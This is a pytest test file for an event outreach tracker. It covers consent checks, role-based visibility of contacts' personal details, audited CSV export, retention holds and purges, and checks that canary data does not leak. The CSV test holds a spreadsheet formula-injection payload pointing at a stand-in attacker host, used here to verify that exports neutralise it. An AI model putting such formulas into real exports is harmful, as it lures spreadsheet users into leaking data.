"""Outreach pages through the test client: logging a contact, who sees what, the CSV,
retention holds and the purge, and SECURITY.md P-2, P-3, P-4, E-1 and U-1 as users meet
them. The views read the real clock, so times here are relative to utcnow()."""

import csv
import io
import json
import logging
import re
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from tests.conftest import login
from tracker.accounts.roles import Role
from tracker.audit.models import AuditRecord
from tracker.db import utcnow
from tracker.extensions import db
from tracker.outreach import services
from tracker.outreach.models import OutreachContact, RetentionHold

CHICAGO = ZoneInfo("America/Chicago")
NAME, PHONE, EMAIL = "Philomena Canaryfield", "615-555-0147", "philomena.canary@example.org"
CANARIES = (NAME, PHONE, EMAIL)
SUMMARY, OUTCOME = "Route along Fifth Avenue agreed", "Marshals posted at every corner"
CONSENT_MESSAGE = "Record that the person agreed to us keeping their details"
DAYS = 30  # OUTREACH_RETENTION_DAYS


def wall_clock(delta: timedelta = timedelta(0)) -> str:
    """Chicago wall-clock time as a datetime-local input sends it."""
    return (utcnow() + delta).astimezone(CHICAGO).strftime("%Y-%m-%dT%H:%M")


def local_today():
    return utcnow().astimezone(CHICAGO).date()


def contact_form(**overrides) -> dict:
    """A valid "log a contact" form; an override of None leaves the field out."""
    values = {"contacted_at": wall_clock(-timedelta(hours=1)), "method": "phone",
              "purpose": "route", "organization": "Neighbors for Parks",
              "person_name": NAME, "person_phone": PHONE, "person_email": EMAIL,
              "consent": "y", "summary": SUMMARY, "outcome": OUTCOME, "follow_up_on": ""}
    values.update(overrides)
    return {k: v for k, v in values.items() if v is not None}


def seed(liaison, event, **overrides) -> OutreachContact:
    """A contact logged through the service (for tests about reading it)."""
    now = utcnow()
    values = {"contacted_at": now.replace(second=0, microsecond=0) - timedelta(hours=1),
              "method": "phone", "purpose": "route", "summary": SUMMARY, "outcome": OUTCOME,
              "person_name": NAME, "person_phone": PHONE, "person_email": EMAIL,
              "consent": True}
    values.update(overrides)
    contact = services.create_contact(liaison, event, services.ContactData(**values), now,
                                      DAYS)
    db.session.commit()
    return contact


def age(event, days: int) -> None:
    """Let time pass: move the event `days` into the past."""
    event.starts_at -= timedelta(days=days)
    event.ends_at -= timedelta(days=days)
    db.session.commit()


def text(response) -> str:
    return response.get_data(as_text=True)


def section(html: str, heading_id: str) -> str:
    """The page section whose heading has this id."""
    match = re.search(rf'id="{heading_id}".*?</section>', html, re.S)
    return match.group(0) if match else ""


def audit_rows(action: str) -> list[AuditRecord]:
    db.session.expire_all()
    stmt = select(AuditRecord).where(AuditRecord.action == action).order_by(AuditRecord.id)
    return list(db.session.scalars(stmt))


def audit_dump() -> str:
    """Every column of every audit row, as JSON."""
    db.session.expire_all()
    columns = AuditRecord.__table__.columns
    return json.dumps([{c.name: getattr(row, c.name) for c in columns}
                       for row in db.session.scalars(select(AuditRecord))], default=str)


def contacts() -> list[OutreachContact]:
    db.session.expire_all()
    return list(db.session.scalars(select(OutreachContact)))


@pytest.fixture
def staff(make_user):
    people = {role.value: make_user(role) for role in Role}
    people["other_planner"] = make_user(Role.PLANNER)
    return people


@pytest.fixture
def event(staff, make_event):
    planner, liaison = staff["planner"], staff["liaison"]
    starts = utcnow().replace(second=0, microsecond=0) + timedelta(days=3)
    return make_event(planner, planner_id=planner.id, liaison_id=liaison.id, starts_at=starts)


@pytest.fixture
def as_user(app):
    """as_user(user) -> a test client signed in as that user (one per user)."""
    clients = {}

    def get(user):
        if user.id not in clients:
            clients[user.id] = app.test_client()
            login(clients[user.id], user)
        return clients[user.id]

    return get


# --- logging a contact and its follow-up ----------------------------------------------


def test_liaison_logs_contact_and_completes_follow_up(staff, event, as_user):
    liaison = as_user(staff["liaison"])
    log_url = f"/events/{event.id}/outreach"
    due = local_today() + timedelta(days=2)
    response = liaison.post(f"{log_url}/new", data=contact_form(follow_up_on=due.isoformat()))
    assert response.status_code == 302
    assert response.headers["Location"] == log_url
    [contact] = contacts()
    assert (contact.person_name, contact.follow_up_on, contact.consent_recorded_by_id) == (
        NAME, due, staff["liaison"].id)

    page = text(liaison.get(log_url))
    for expected in (*CANARIES, "Consent recorded", SUMMARY):
        assert expected in page
    follow_ups = section(text(liaison.get("/")), "follow-ups-title")
    assert "My outreach follow-ups" in follow_ups and event.title in follow_ups

    response = liaison.post(f"/outreach/{contact.id}/follow-up-done")
    assert response.status_code == 302
    assert "My outreach follow-ups" not in text(liaison.get("/"))
    assert '<span class="tag tag-ok">Done</span>' in text(liaison.get(log_url))
    assert [r.object_id for r in audit_rows("outreach.follow_up_done")] == [str(contact.id)]


BAD_INPUT = [
    pytest.param({"consent": None}, CONSENT_MESSAGE, id="personal-details-without-consent"),
    pytest.param({"person_email": "philomena at example"}, "Enter a valid email address.",
                 id="invalid-email"),
    pytest.param({"contacted_at": lambda: wall_clock(timedelta(hours=3))},
                 "the time is in the future", id="future-contact-time"),
    pytest.param({"method": "carrier_pigeon"}, "Not a valid choice", id="unknown-method"),
    pytest.param({"summary": "S" * 2001}, "cannot be longer than 2000 characters",
                 id="summary-2001-chars"),
]


@pytest.mark.parametrize("overrides, message", BAD_INPUT)
def test_bad_input_keeps_typed_values_and_saves_nothing(staff, event, as_user, overrides,
                                                        message):
    overrides = {k: v() if callable(v) else v for k, v in overrides.items()}
    data = contact_form(**overrides)
    response = as_user(staff["liaison"]).post(f"/events/{event.id}/outreach/new", data=data)
    assert response.status_code == 400
    page = text(response)
    assert message in page
    assert f'value="{NAME}"' in page  # the user's own form shows what they typed
    assert re.search(rf">\s*{re.escape(data['summary'])}</textarea>", page)
    assert contacts() == []
    assert audit_rows("outreach.create") == []


# --- who sees what --------------------------------------------------------------------

VISIBILITY = [("liaison", True), ("privacy_officer", True), ("planner", True),
              ("leadership", False), ("admin", False), ("other_planner", False)]


@pytest.mark.parametrize("who, full", VISIBILITY)
def test_log_shows_personal_details_only_to_permitted_roles(staff, event, as_user, who,
                                                            full):
    seed(staff["liaison"], event)
    page = text(as_user(staff[who]).get(f"/events/{event.id}/outreach"))
    counts = section(page, "counts-title")
    assert "1 contact by purpose" in counts and "Route" in counts
    views = audit_rows("outreach.view_personal")
    if full:
        for value in (*CANARIES, SUMMARY, OUTCOME):
            assert value in page
        assert [(v.actor_id, v.object_type, v.object_id, v.changes) for v in views] == [
            (staff[who].id, "event", str(event.id),
             {"entries": 1, "entries_with_personal_details": 1})]
    else:
        for value in (*CANARIES, SUMMARY, OUTCOME):
            assert value not in page
        assert "Your role sees the number and purpose of contacts" in page
        assert views == []


# --- CSV export (E-1) -----------------------------------------------------------------


def test_csv_export_neutralises_formulas_and_is_audited(staff, event, as_user):
    payload = '=HYPERLINK("http://evil.example/?x=1","Click")'
    seed(staff["liaison"], event, summary=payload)
    response = as_user(staff["liaison"]).get(f"/events/{event.id}/outreach.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    header, *rows = list(csv.reader(io.StringIO(text(response))))
    assert header[:9] == ["Date and time", "Method", "Purpose", "Organization",
                          "Contact name", "Phone", "Email", "Summary", "Outcome"]
    [row] = [dict(zip(header, r, strict=True)) for r in rows]
    assert (row["Contact name"], row["Phone"], row["Email"]) == CANARIES
    assert row["Summary"] == "'" + payload
    exports = audit_rows("outreach.export")
    assert [(e.actor_id, e.object_type, e.object_id, e.changes) for e in exports] == [
        (staff["liaison"].id, "event", str(event.id),
         {"entries": 1, "entries_with_personal_details": 1})]
    trail = audit_dump()
    assert not [c for c in CANARIES if c in trail]


def test_csv_export_refused_to_leadership(staff, event, as_user):
    seed(staff["liaison"], event)
    response = as_user(staff["leadership"]).get(f"/events/{event.id}/outreach.csv")
    assert response.status_code == 403
    assert not [c for c in CANARIES if c in text(response)]
    assert audit_rows("outreach.export") == []
    assert [r.object_id for r in audit_rows("access.denied")] == ["outreach.export_csv"]


# --- P-4: the canary stays in the log and the CSV -------------------------------------


def test_canary_appears_only_in_the_log_and_the_csv(app, staff, event, as_user, runner,
                                                    caplog):
    # SQLAlchemy caps its loggers at WARNING: at INFO it logs every statement, whose
    # parameters (the canary among them) must stay hidden. DEBUG: see the xfail below.
    # Root last: set_level also sets the capture handler's level.
    caplog.set_level(logging.INFO, logger="sqlalchemy.engine")
    caplog.set_level(logging.DEBUG)
    liaison = as_user(staff["liaison"])
    log_url = f"/events/{event.id}/outreach"
    form = contact_form(follow_up_on=(local_today() + timedelta(days=1)).isoformat())
    assert liaison.post(f"{log_url}/new", data=form).status_code == 302
    [contact] = contacts()
    edit_url = f"/outreach/{contact.id}/edit"
    for who in ("liaison", "planner", "privacy_officer"):
        assert NAME in text(as_user(staff[who]).get(log_url))  # permitted
    assert liaison.post(edit_url, data={**form, "summary": "Moved to Sixth"}).status_code == 302
    assert NAME in text(liaison.get(f"{log_url}.csv"))  # permitted, and still stored

    pages = {}
    for who, user in staff.items():
        client = as_user(user)
        pages[f"dashboard ({who})"] = client.get("/")
        pages[f"event detail ({who})"] = client.get(f"/events/{event.id}")
        pages[f"event list ({who})"] = client.get("/events/")
        if who in ("leadership", "admin", "other_planner"):
            pages[f"outreach log ({who})"] = client.get(log_url)
    officer = as_user(staff["privacy_officer"])
    pages["retention page"] = officer.get("/retention/")
    pages["hold form"] = officer.get(f"/retention/outreach/{contact.id}/hold")
    pages["hold form, 400"] = officer.post(f"/retention/outreach/{contact.id}/hold",
                                           data={"reason": "", "expires_on": ""})
    pages["404 page"] = liaison.get("/outreach/999/edit")
    pages["403 page"] = as_user(staff["leadership"]).get(f"{log_url}.csv")
    app.config["WTF_CSRF_ENABLED"] = True
    try:
        pages["CSRF failure page"] = liaison.post(edit_url, data=form)
    finally:
        app.config["WTF_CSRF_ENABLED"] = False
    pages["audit trail"] = officer.get("/audit/")
    assert [pages[k].status_code for k in ("hold form, 400", "404 page", "403 page",
                                           "CSRF failure page")] == [400, 404, 403, 400]
    assert "Form expired" in text(pages["CSRF failure page"])

    age(event, days=40)
    result = runner.invoke(args=["retention", "purge"])
    assert result.exit_code == 0, result.output
    assert "1 entry purged." in result.output
    pages["outreach log after purge (liaison)"] = liaison.get(log_url)
    pages["audit trail after purge"] = officer.get("/audit/")

    places = {where: text(response) for where, response in pages.items()}
    places.update({"CLI purge output": result.output, "log records": caplog.text,
                   "audit rows": audit_dump()})
    leaks = [(where, c) for where, body in places.items() for c in CANARIES if c in body]
    assert leaks == []
    assert "outreach.purge" in places["audit rows"]  # the dump does hold the trail


def test_canary_stays_out_of_sql_debug_log(staff, event, as_user, caplog):
    seed(staff["liaison"], event)
    caplog.set_level(logging.DEBUG, logger="sqlalchemy.engine")
    assert NAME in text(as_user(staff["liaison"]).get(f"/events/{event.id}/outreach"))
    assert "sqlalchemy.engine" in caplog.text  # statements were logged
    assert not [c for c in CANARIES if c in caplog.text]


def test_edit_audits_the_changed_field_without_values(staff, event, as_user):
    liaison = as_user(staff["liaison"])
    form = contact_form()
    assert liaison.post(f"/events/{event.id}/outreach/new", data=form).status_code == 302
    [contact] = contacts()
    response = liaison.post(f"/outreach/{contact.id}/edit",
                            data={**form, "person_phone": "615-555-0100"})
    assert response.status_code == 302
    assert response.headers["Location"] == f"/events/{event.id}/outreach"
    assert contacts()[0].person_phone == "615-555-0100"
    assert [u.changes for u in audit_rows("outreach.update")] == [{"person_phone": "changed"}]
    trail = audit_dump()
    assert PHONE not in trail and "615-555-0100" not in trail


def test_adding_personal_details_later_needs_consent(staff, event, as_user):
    liaison = as_user(staff["liaison"])
    form = contact_form(person_name="", person_phone="", person_email="", consent=None)
    assert liaison.post(f"/events/{event.id}/outreach/new", data=form).status_code == 302
    [contact] = contacts()
    assert contact.consent_recorded_at is None
    edit_url = f"/outreach/{contact.id}/edit"

    response = liaison.post(edit_url, data={**form, "person_name": NAME})
    assert response.status_code == 400
    assert CONSENT_MESSAGE in text(response)
    assert contacts()[0].person_name is None
    assert audit_rows("outreach.update") == []

    response = liaison.post(edit_url, data={**form, "person_name": NAME, "consent": "y"})
    assert response.status_code == 302
    [contact] = contacts()
    assert (contact.person_name, contact.consent_recorded_by_id) == (NAME, staff["liaison"].id)


# --- retention ------------------------------------------------------------------------


def test_retention_page_lists_purge_date_and_manages_holds(staff, event, as_user):
    contact = seed(staff["liaison"], event)
    officer = as_user(staff["privacy_officer"])
    scheduled = section(text(officer.get("/retention/")), "scheduled-title")
    purge_day = (event.ends_at + timedelta(days=DAYS)).astimezone(CHICAGO)
    assert purge_day.strftime("%a %-d %b %Y") in scheduled
    assert event.title in scheduled and "Place a hold" in scheduled
    assert f'href="/retention/outreach/{contact.id}/hold"' in scheduled

    expires = local_today() + timedelta(days=90)
    response = officer.post(f"/retention/outreach/{contact.id}/hold",
                            data={"reason": "Records request RR-2026-114",
                                  "expires_on": expires.isoformat()})
    assert response.status_code == 302 and response.headers["Location"] == "/retention/"
    page = text(officer.get("/retention/"))
    holds = section(page, "holds-title")
    assert "Active holds (1)" in holds and "Records request RR-2026-114" in holds
    assert "Held until" in section(page, "scheduled-title")

    [hold] = db.session.scalars(select(RetentionHold)).all()
    response = officer.post(f"/retention/holds/{hold.id}/release")
    assert response.status_code == 302
    holds = section(text(officer.get("/retention/")), "holds-title")
    assert "Active holds (0)" in holds and "RR-2026-114" not in holds
    trail = [(r.action, r.object_id) for r in
             audit_rows("retention.hold") + audit_rows("retention.release")]
    assert trail == [("retention.hold", str(contact.id)), ("retention.release", str(contact.id))]


@pytest.mark.parametrize("reason, days, message", [
    pytest.param("", 30, "Write the reason for the hold.", id="no-reason"),
    pytest.param("Litigation hold L-77", -1, "The hold must expire on a future date.",
                 id="past-date"),
])
def test_bad_hold_input_is_refused(staff, event, as_user, reason, days, message):
    contact = seed(staff["liaison"], event)
    expires = local_today() + timedelta(days=days)
    response = as_user(staff["privacy_officer"]).post(
        f"/retention/outreach/{contact.id}/hold",
        data={"reason": reason, "expires_on": expires.isoformat()})
    assert response.status_code == 400
    page = text(response)
    assert message in page
    if reason:
        assert reason in page
    assert db.session.scalars(select(RetentionHold)).all() == []
    assert audit_rows("retention.hold") == []


def test_purged_entry_keeps_a_content_free_record(staff, event, as_user, runner):
    contact = seed(staff["liaison"], event)
    age(event, days=40)
    result = runner.invoke(args=["retention", "purge"])
    assert result.exit_code == 0 and "1 entry purged." in result.output

    liaison = as_user(staff["liaison"])
    page = text(liaison.get(f"/events/{event.id}/outreach"))
    assert "Personal details purged on" in page
    for kept in ("Phone", "Route", SUMMARY, OUTCOME):
        assert kept in page
    assert not [c for c in CANARIES if c in page]

    edit_url = f"/outreach/{contact.id}/edit"
    assert "Personal details were purged on" in text(liaison.get(edit_url))
    form = contact_form(contacted_at=wall_clock(-timedelta(hours=2)), person_phone="",
                        person_email="")
    response = liaison.post(edit_url, data=form)
    assert response.status_code == 400
    assert "no longer kept" in text(response)
    assert contacts()[0].person_name is None


# --- the event page and P-2 -----------------------------------------------------------


def test_event_page_shows_outreach_panel(staff, event, as_user):
    seed(staff["liaison"], event, follow_up_on=local_today() + timedelta(days=1))
    page = text(as_user(staff["leadership"]).get(f"/events/{event.id}"))
    panel = section(page, "outreach-title")
    assert "1 contact logged, 1 open follow-up." in panel
    assert f'href="/events/{event.id}/outreach"' in panel


def test_no_search_of_contacts_by_person(app, staff, event, as_user):
    seed(staff["liaison"], event)
    # The one search is over events' own planning words, and finds no person in them
    # (tests/events/test_search.py); no route searches outreach.
    assert [r.rule for r in app.url_map.iter_rules()
            if "search" in r.rule.lower()] == ["/events/search"]
    officer = as_user(staff["privacy_officer"])  # a role that may see the details
    for query in ({"q": NAME}, {"name": NAME}, {"phone": PHONE}, {"email": EMAIL}):
        response = officer.get("/events/", query_string=query)
        assert response.status_code == 200
        body = text(response)
        assert event.title in body  # the list itself, unfiltered by person
        assert not [c for c in CANARIES if c in body], query
    for words in (NAME, PHONE, EMAIL):
        response = officer.get("/events/search", query_string={"q": words})
        assert response.status_code == 200
        assert event.title not in text(response), words  # contacts are never indexed
